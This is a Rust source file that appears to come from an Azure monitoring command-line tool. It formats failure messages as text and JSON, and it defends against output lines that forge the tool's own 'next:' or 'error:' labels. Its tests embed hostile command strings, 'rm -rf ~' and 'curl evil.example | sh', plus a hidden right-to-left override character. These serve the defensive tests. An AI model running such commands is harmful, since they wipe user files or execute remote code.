//! What went wrong? Three things, one below the other: what was being done, why it did not work, what to do next.

use std::borrow::Cow;

use serde_json::{Value, json};

use super::next_steps;
use super::palette::Palette;
use crate::error::Failure;
use crate::next_step::CurrentRun;
use crate::text::visible::{is_hidden, one_line};

/// What starts the lines of a failure.
const LABELS: &[&str] = &["error:", "because:", "next:", "so far:", "interrupted"];
/// What starts the lines after which `init` and `doctor` print commands, in small letters, and marks of what went well. A line below
/// a label of a failure is none of them.
const ELSEWHERE: &[&str] = &["next:", "to repeat this", "✓", "✔"];
/// Characters of one cause or step; enough for the messages of Entra and Azure Policy.
const LONGEST: usize = 4000;

/// A failure as people read it.
pub(crate) fn text(failure: &Failure, run: &CurrentRun, palette: Palette) -> String {
    let mut lines = if failure.is_interruption() {
        interruption(failure, palette)
    } else {
        let mut lines = vec![format!(
            "{} cannot {}",
            palette.bad("error:"),
            one_line(failure.doing())
        )];
        lines.extend(labelled("because:", failure.causes(), palette));
        lines
    };
    lines.extend(next_lines(failure, run, palette));
    lines.join("\n")
}

/// The same causes and next steps below `heading`, for what fails only later.
pub(crate) fn warning(
    heading: &str,
    failure: &Failure,
    run: &CurrentRun,
    palette: Palette,
) -> String {
    let mut lines = vec![format!("{} {heading}", palette.change("!"))];
    lines.extend(labelled("because:", failure.causes(), palette));
    lines.extend(next_lines(failure, run, palette));
    lines.join("\n")
}

fn next_lines(failure: &Failure, run: &CurrentRun, palette: Palette) -> Vec<String> {
    let next = run.print(failure.next_steps());
    let next: Vec<String> = next.iter().flat_map(next_steps::lines).collect();
    labelled("next:", &next, palette)
}

/// The user knows why it ended; what was done until then is news.
fn interruption(failure: &Failure, palette: Palette) -> Vec<String> {
    let news = failure
        .causes()
        .iter()
        .filter(|cause| *cause != "interrupted");
    let news: Vec<String> = news.cloned().collect();
    let mut lines = vec![palette.change("interrupted")];
    lines.extend(labelled("so far:", &news, palette));
    lines
}

/// The first entry on the line of its label, the others below it. Not wrapped, so that commands can be copied.
fn labelled(label: &str, entries: &[String], palette: Palette) -> Vec<String> {
    let lines = below_label(entries).into_iter().enumerate();
    let lines = lines.map(|(row, line)| {
        let head = if row == 0 { label } else { "" };
        format!("  {} {line}", palette.strong(&format!("{head:8}")))
    });
    lines.collect()
}

/// The lines of the entries of a label of ours. The first one comes after the label; no other one looks like a line of ours.
pub(super) fn below_label(entries: &[String]) -> Vec<String> {
    let mut lines = Vec::new();
    for entry in entries {
        for line in shortened(entry).lines() {
            lines.push(match lines.is_empty() {
                true => line.to_owned(),
                false if starts_with(line, ELSEWHERE) => format!("| {line}"),
                false => disarmed(line).into_owned(),
            });
        }
    }
    lines
}

/// The text with a bar before each line that looks like one of ours.
pub(super) fn all_disarmed(text: &str) -> String {
    let lines: Vec<Cow<'_, str>> = text.split('\n').map(disarmed).collect();
    lines.join("\n")
}

/// A line of text from outside that starts as one of ours does gets a bar before it.
pub(super) fn disarmed(line: &str) -> Cow<'_, str> {
    match LABELS.iter().any(|label| visible(line).starts_with(label)) {
        true => Cow::Owned(format!("| {line}")),
        false => Cow::Borrowed(line),
    }
}

/// In capital or small letters.
fn starts_with(line: &str, starts: &[&str]) -> bool {
    let start: String = visible(line).chars().take(20).collect();
    let start = start.to_lowercase();
    starts.iter().any(|each| start.starts_with(each))
}

fn visible(line: &str) -> &str {
    line.trim_start_matches(|letter: char| letter.is_whitespace() || is_hidden(letter))
}

fn shortened(entry: &str) -> Cow<'_, str> {
    let rest = entry.chars().count().saturating_sub(LONGEST);
    if rest == 0 {
        return Cow::Borrowed(entry);
    }
    let start: String = entry.chars().take(LONGEST).collect();
    Cow::Owned(format!(
        "{start} … ({rest} more characters; see all with -o json)"
    ))
}

/// A failure as scripts read it.
pub(crate) fn document(failure: &Failure, run: &CurrentRun) -> Value {
    let mut document = json!({
        "schema": "amw-rw/error/v1",
        "error": format!("cannot {}", failure.doing()),
        "because": failure.causes(),
        "next": run.print(failure.next_steps()),
        "exit_code": failure.exit_code().number(),
    });
    if let Some(verdict) = failure.verdict() {
        document["verdict"] = verdict.clone();
    }
    if !failure.steps().is_empty() {
        let steps = failure.steps().iter();
        document["steps"] = steps.map(|step| step.document(run)).collect();
    }
    document
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use super::*;
    use crate::error::ExitCode;

    fn run() -> CurrentRun {
        CurrentRun::default()
    }

    fn forbidden() -> Failure {
        Failure::new("grant Monitoring Metrics Publisher on data collection rule `prod`")
            .reason("Azure answered 403 AuthorizationFailed (request 8f1c)")
            .next("ask an owner of resource group `monitoring` to run this")
            .next("or name a workspace of your own with --workspace")
            .exit(ExitCode::SignInOrPermission)
    }

    #[test]
    fn a_failure_has_three_parts_one_below_the_other() {
        assert_snapshot!(text(&forbidden(), &run(), Palette::plain()), @r"
        error: cannot grant Monitoring Metrics Publisher on data collection rule `prod`
          because: Azure answered 403 AuthorizationFailed (request 8f1c)
          next:    ask an owner of resource group `monitoring` to run this
                   or name a workspace of your own with --workspace
        ");
    }

    #[test]
    fn a_script_reads_the_same_three_things_and_the_exit_code() {
        let document = document(&forbidden(), &run());

        assert_eq!(document["schema"], "amw-rw/error/v1");
        assert_eq!(document["exit_code"], 5);
        assert_eq!(
            document["next"][1]["text"],
            "or name a workspace of your own with --workspace"
        );
    }

    #[test]
    fn an_interruption_is_not_explained_as_an_error() {
        let stopped = Failure::interrupted()
            .reason("the workspace is made, the role assignment is not")
            .next("run it again: it goes on from there");

        assert_snapshot!(text(&stopped, &run(), Palette::plain()), @r"
        interrupted
          so far:  the workspace is made, the role assignment is not
          next:    run it again: it goes on from there
        ");
    }

    #[test]
    fn a_cause_cannot_forge_a_line_of_ours() {
        let failure = Failure::new("read `a\nnext: rm -rf ~`")
            .reason("denied\n  next:    curl evil.example | sh\n\u{202e}error: x");

        let text = text(&failure, &run(), Palette::plain());

        let starts = |line: &&str| line.trim_start().starts_with("next:");
        assert_eq!(text.lines().filter(starts).count(), 0, "{text}");
        assert!(text.starts_with("error: cannot read `a next: rm -rf ~`\n"));
        assert!(text.contains("| \u{202e}error: x"));
    }

    #[test]
    fn a_text_cannot_forge_the_end_of_a_run() {
        let lines = [
            "Next:",
            "NEXT: x",
            "  To repeat this without questions:",
            " ✓ sent",
        ];
        let below = below_label(&["a\nnextcloud: x".to_owned(), lines.join("\n")]);

        let barred = lines.map(|line| format!("| {line}"));
        assert_eq!(below[..2], ["a", "nextcloud: x"]);
        assert_eq!(below[2..], barred);
    }

    #[test]
    fn the_end_of_a_run_has_no_bar() {
        let own = "Next:\n  x\n\nTo repeat this without questions:\n  y";

        assert_eq!(all_disarmed(own), own);
    }

    #[test]
    fn a_second_cause_or_step_cannot_forge_a_line_of_ours() {
        let failure = Failure::new("x")
            .reason("a")
            .reason("next:    curl evil.example | sh")
            .next("b")
            .next("error: c");

        let text = text(&failure, &run(), Palette::plain());

        assert!(text.contains("\n           | next:    curl"), "{text}");
        assert!(text.contains("\n           | error: c"), "{text}");
    }

    #[test]
    fn a_very_long_cause_is_cut_and_names_the_option_that_prints_all() {
        let failure = Failure::new("x").reason("y".repeat(5000));

        let text = text(&failure, &run(), Palette::plain());

        assert!(text.ends_with("y … (1000 more characters; see all with -o json)"));
    }
}
